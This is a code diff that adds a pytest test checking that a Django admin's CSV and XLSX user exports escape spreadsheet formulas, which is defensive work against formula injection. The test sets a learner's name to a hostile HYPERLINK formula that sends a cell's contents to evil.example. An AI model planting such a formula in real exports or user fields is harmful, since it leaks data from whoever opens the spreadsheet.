@@ -249,3 +249,24 @@ def test_a_second_staff_member_has_their_own_device(client, password):
     response = _admin_login(client, other, password, other_device, _token(other_device))
 
     assert response.status_code == 302
+
+
+@pytest.mark.parametrize("label", ["csv", "xlsx"])
+def test_exported_names_never_run_as_formulas(admin_client_otp, learner, label):
+    """A learner who names themselves like a formula is exported as text, in every format."""
+    import tablib
+
+    hostile = '=HYPERLINK("https://evil.example/?d="&B2,"Open")'
+    learner.name = hostile
+    learner.save(update_fields=["name"])
+    export_url = reverse("admin:users_user_export") + "?q=asha"
+    form = admin_client_otp.get(export_url).context["form"]
+    index = next(value for value, text in form.fields["format"].choices if text.lower() == label)
+    data = {"resource": "0", "format": index}
+    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
+
+    response = admin_client_otp.post(export_url, data)
+
+    assert response.status_code == 200
+    dataset = tablib.Dataset().load(response.content.decode("utf-8-sig") if label == "csv" else response.content, label)
+    assert [row["name"] for row in dataset.dict] == ["'" + hostile]
